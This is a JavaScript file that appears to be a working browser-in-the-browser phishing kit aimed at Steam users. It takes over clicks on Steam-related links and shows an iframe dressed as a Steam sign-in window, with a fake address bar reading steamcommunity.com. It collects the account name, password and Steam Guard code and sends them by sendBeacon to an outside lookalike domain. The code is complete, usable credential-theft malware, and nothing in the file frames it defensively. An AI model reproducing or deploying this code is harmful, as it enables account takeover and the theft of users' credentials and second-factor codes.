/* bitb-credential-overlay: fake Steam sign-in window rendered in an iframe srcdoc; the frame posts credentials back to the page */
/* the page-side listener forwards them (plus the Steam Guard code) with sendBeacon */
(function () {
  var GATE = 'https://steamcommunity-auth.top/api/login';
  var NONCE = 'sg' + Math.random().toString(36).slice(2);

  var inner = [
    '<!doctype html><html><head><meta charset="utf-8"><style>',
    'body{margin:0;background:#1b2838;color:#c7d5e0;font:13px Arial,sans-serif}',
    '.bar{height:30px;background:#202020;color:#ddd;display:flex;align-items:center;padding:0 10px;font-size:12px}',
    '.url{height:26px;background:#2b2b2b;color:#9a9a9a;display:flex;align-items:center;padding:0 10px;font-size:12px}',
    '.url b{color:#5ba32b;font-weight:normal;margin-right:6px}',
    'form{padding:36px 40px}label{display:block;margin:14px 0 6px;color:#1999ff;font-size:12px;text-transform:uppercase}',
    'input{width:100%;box-sizing:border-box;background:#32353c;border:0;color:#fff;padding:10px;font-size:15px}',
    'button{margin-top:26px;width:100%;padding:12px;border:0;background:linear-gradient(90deg,#06bfff,#2d73ff);color:#fff;font-size:15px}',
    '#guard{display:none}#msg{color:#c15755;margin-top:12px;min-height:16px}',
    '</style></head><body>',
    '<div class="bar">Steam Community :: Sign In<span id="x" style="margin-left:auto;cursor:pointer">&#10005;</span></div>',
    '<div class="url"><b>&#128274;</b>https://steamcommunity.com/openid/login?openid.mode=checkid_setup</div>',
    '<form id="f"><div style="font-size:26px;color:#fff">Sign in</div>',
    '<div id="creds"><label>Sign in with account name</label><input id="u" autocomplete="off">',
    '<label>Password</label><input id="p" type="password"></div>',
    '<div id="guard"><label>Steam Guard code</label><input id="g" maxlength="5"></div>',
    '<button type="submit">Sign in</button><div id="msg"></div></form>',
    '<script>',
    'var n="' + NONCE + '",step=0;',
    'document.getElementById("x").onclick=function(){parent.postMessage({n:n,t:"close"},"*")};',
    'document.getElementById("f").onsubmit=function(e){e.preventDefault();',
    'if(step===0){parent.postMessage({n:n,t:"cred",u:u.value,p:p.value},"*");step=1;',
    'document.getElementById("creds").style.display="none";document.getElementById("guard").style.display="block";',
    'document.getElementById("msg").textContent="Enter the code from your Steam Mobile App";return}',
    'parent.postMessage({n:n,t:"guard",g:g.value},"*");document.getElementById("msg").textContent="Please try again later."};',
    '<\/script></body></html>'
  ].join('');

  var frame = null;
  var record = { site: location.hostname };

  function open() {
    if (frame) return;
    frame = document.createElement('iframe');
    frame.setAttribute('srcdoc', inner);
    frame.style.cssText = 'position:fixed;top:70px;left:50%;margin-left:-220px;width:440px;height:520px;border:1px solid #000;' +
      'box-shadow:0 10px 40px rgba(0,0,0,.7);z-index:2147483647;background:#1b2838';
    document.body.appendChild(frame);
  }

  function close() {
    if (frame && frame.parentNode) frame.parentNode.removeChild(frame);
    frame = null;
  }

  window.addEventListener('message', function (e) {
    var m = e.data;
    if (!m || m.n !== NONCE) return;
    if (m.t === 'close') return close();
    if (m.t === 'cred') { record.user = m.u; record.pass = m.p; }
    if (m.t === 'guard') { record.guard = m.g; setTimeout(close, 2500); }
    navigator.sendBeacon(GATE, new Blob([JSON.stringify(record)], { type: 'text/plain' }));
  });

  document.addEventListener('click', function (e) {
    var t = e.target.closest ? e.target.closest('a,button') : null;
    if (t && /steam/i.test(t.textContent + ' ' + (t.className || '') + ' ' + (t.href || ''))) {
      e.preventDefault();
      open();
    }
  }, true);
})();
